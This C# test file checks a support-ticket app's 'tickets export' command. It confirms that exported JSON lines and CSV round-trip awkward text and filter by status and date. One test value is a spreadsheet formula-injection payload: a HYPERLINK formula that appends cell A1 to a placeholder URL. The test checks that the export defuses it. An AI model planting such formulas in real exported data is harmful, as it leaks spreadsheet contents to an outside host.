using System.Diagnostics;
using System.Globalization;
using System.Text.Json;
using Azure.Data.Tables;
using CsvHelper;
using Microsoft.Extensions.Options;
using SupportBot.Tickets;
using SupportBot.Tests.Infrastructure;

namespace SupportBot.Tests.Tickets;

// `tickets export` run as the real command line, against tickets filed in Azurite; its output is read back.
public sealed class TicketsExportTests : IAsyncLifetime
{
    readonly Azurite azurite = new();
    TableTicketStore store = null!;
    readonly List<int> numbers = [];

    public async Task InitializeAsync()
    {
        await azurite.InitializeAsync();
        store = new TableTicketStore(new TableServiceClient(azurite.ConnectionString), Options.Create(new TicketOptions()), TimeProvider.System);
        numbers.Add((await store.FileAsync("c|1", n => TicketStoreTests.Sample(n, problem: "printer, \"jammed\"\nagain; ünïcødé 😀"), CancellationToken.None)).Ticket.Number);
        numbers.Add((await store.FileAsync("c|2", n => TicketStoreTests.Sample(n, problem: "wifi down", title: Formula), CancellationToken.None)).Ticket.Number);
        await store.UpdateAsync(numbers[1], t => new TicketChange(t with { Status = TicketStatus.Resolved, ResolvedAt = DateTimeOffset.UtcNow },
            [new NewEvent("tech-1", "Taylor", TicketEventKind.Resolved, "Resolved", "Restarted the access point")]), CancellationToken.None);
    }

    public Task DisposeAsync() => azurite.DisposeAsync();

    const string Formula = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"open\")";

    [Fact]
    public async Task Json_lines_hold_every_ticket_with_its_history()
    {
        var lines = (await ExportAsync()).Split('\n', StringSplitOptions.RemoveEmptyEntries);

        var tickets = lines.Select(l => JsonSerializer.Deserialize<Ticket>(l, JsonLines.Options)!).ToList();
        Assert.Equal(numbers, tickets.Select(t => t.Number));
        Assert.Equal("printer, \"jammed\"\nagain; ünïcødé 😀", tickets[0].Problem);
        Assert.Equal(TicketStatus.Resolved, tickets[1].Status);
        Assert.Equal("Restarted the access point", tickets[1].History[^1].Text);
    }

    [Fact]
    public async Task Csv_reads_back_one_row_per_ticket_and_status_open_filters()
    {
        using var reader = new CsvReader(new StringReader(await ExportAsync("--csv")), CultureInfo.InvariantCulture);
        var rows = reader.GetRecords<TicketRow>().ToList();
        Assert.Equal(numbers, rows.Select(r => r.Number));
        Assert.Equal("printer, \"jammed\"\nagain; ünïcødé 😀", rows[0].Problem);
        Assert.Equal("Resolved", rows[1].Status);
        // A title typed as a formula stays text when the file is opened in a spreadsheet.
        Assert.NotEqual('=', rows[1].Title[0]);
        Assert.EndsWith(Formula, rows[1].Title);

        var open = (await ExportAsync("--status", "open")).Split('\n', StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal(numbers[0], JsonSerializer.Deserialize<Ticket>(Assert.Single(open), JsonLines.Options)!.Number);
        Assert.Empty((await ExportAsync("--since", DateTimeOffset.UtcNow.AddDays(1).ToString("yyyy-MM-dd"))).Trim());
    }

    async Task<string> ExportAsync(params string[] options)
    {
        var start = new ProcessStartInfo("dotnet") { RedirectStandardOutput = true, RedirectStandardError = true, UseShellExecute = false };
        start.ArgumentList.Add(Path.Combine(AppContext.BaseDirectory, "SupportBot.dll"));
        foreach (var a in new[] { "tickets", "export" }.Concat(options)) start.ArgumentList.Add(a);
        start.Environment["ConnectionStrings__Tables"] = azurite.ConnectionString;
        using var process = Process.Start(start)!;
        var stdout = process.StandardOutput.ReadToEndAsync();
        var stderr = process.StandardError.ReadToEndAsync();
        await process.WaitForExitAsync().WaitAsync(TimeSpan.FromSeconds(60));
        Assert.True(process.ExitCode == 0, await stderr);
        return await stdout;
    }
}
